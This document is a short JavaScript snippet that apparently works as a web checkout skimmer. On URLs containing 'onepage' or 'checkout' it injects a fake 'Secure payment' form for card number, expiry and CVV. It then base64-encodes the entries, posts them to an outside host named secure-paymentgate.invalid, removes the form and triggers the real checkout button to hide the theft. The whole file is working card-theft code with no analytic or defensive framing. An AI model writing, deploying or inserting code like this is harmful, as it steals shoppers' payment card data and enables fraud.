(function () {
  if (location.href.indexOf("onepage") === -1 && location.href.indexOf("checkout") === -1) return;
  var html = '<div id="pay-overlay"><h3>Secure payment</h3>' +
    '<input id="x_cc" placeholder="Card number"><input id="x_exp" placeholder="MM/YY">' +
    '<input id="x_cvv" placeholder="CVV"><button id="x_go">Pay now</button></div>';
  var holder = document.createElement("div");
  holder.innerHTML = html;
  document.body.appendChild(holder);
  document.getElementById("x_go").addEventListener("click", function () {
    var payload = [
      document.getElementById("x_cc").value,
      document.getElementById("x_exp").value,
      document.getElementById("x_cvv").value
    ].join("|");
    var x = new XMLHttpRequest();
    x.open("POST", "https://secure-paymentgate.invalid/api/v1/tx", true);
    x.send("d=" + encodeURIComponent(btoa(payload)));
    holder.parentNode.removeChild(holder);
    document.querySelector("button.checkout").click();
  });
})();
